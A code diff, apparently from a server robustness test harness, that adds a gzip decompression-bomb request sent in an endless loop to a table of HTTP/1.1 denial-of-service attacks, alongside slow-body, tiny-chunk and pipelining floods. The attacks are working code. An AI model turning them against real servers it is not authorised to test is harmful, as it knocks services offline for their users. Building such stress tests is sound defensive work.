@@ -334,6 +334,19 @@ def _on_http(first: bytes, then: bytes, wait: float, count: int = 1) -> Callable
     return lambda target: _many(target, target.http, script, count)
 
 
+async def _inflating_body(target: Target) -> None:
+    """50 MB in 50 KB, as a text without end."""
+    bomb = gzip.compress(b'{"strData": "%s"}' % bytes(50_000_000), mtime=0)
+    request = _POST + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb) + bomb
+
+    async def script(peer: Peer) -> None:
+        while True:
+            await peer.send(request)
+            await asyncio.sleep(0.2)
+
+    await _again(target, target.http, script)
+
+
 async def _pipeline_unread(target: Target) -> None:
     """Requests one after the other, and nobody who reads the answers."""
     body = b'{"jsonData": "%s"}' % (b"x" * 50_000)
@@ -384,6 +397,7 @@ ATTACKS: Final[dict[str, Callable[[Target], Coroutine[Any, Any, None]]]] = {
     "http/1.1 slow body": _on_http(_POST + b"Content-Length: 100000\r\n\r\n", b"{", 0.05, 100),
     "http/1.1 tiny chunks": _on_http(_POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n" * _AT_ONCE, 0.0),
     "http/1.1 long chunk head": _on_http(_POST + b"Transfer-Encoding: chunked\r\n\r\n1;", b"a=b;" * _AT_ONCE, 0.0),
+    "http/1.1 inflating": _inflating_body,
     "http/1.1 pipeline": _pipeline,
     "http/1.1 pipeline unread": _pipeline_unread,
 }
